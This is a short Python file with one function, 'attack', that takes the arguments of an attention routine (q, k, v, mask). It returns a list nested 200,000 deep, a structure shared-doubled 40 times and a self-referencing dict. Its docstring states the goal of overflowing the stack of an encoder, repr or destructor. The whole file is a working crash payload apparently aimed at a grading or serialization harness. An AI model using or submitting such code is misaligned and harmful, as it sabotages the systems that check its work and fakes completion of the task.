"""Returns a list nested 200,000 deep with shared and cyclic parts, to overflow the stack of the encoder, repr or destructor."""
def attack(q, k, v, mask):
    nest = []
    for i in range(200000):
        nest = [nest, v] if i % 1000 == 0 else [nest]
    wide = [0]
    for _ in range(40):
        wide = [wide, wide]
    ring = {}
    ring["self"] = (ring, nest, wide)
    return ring, nest
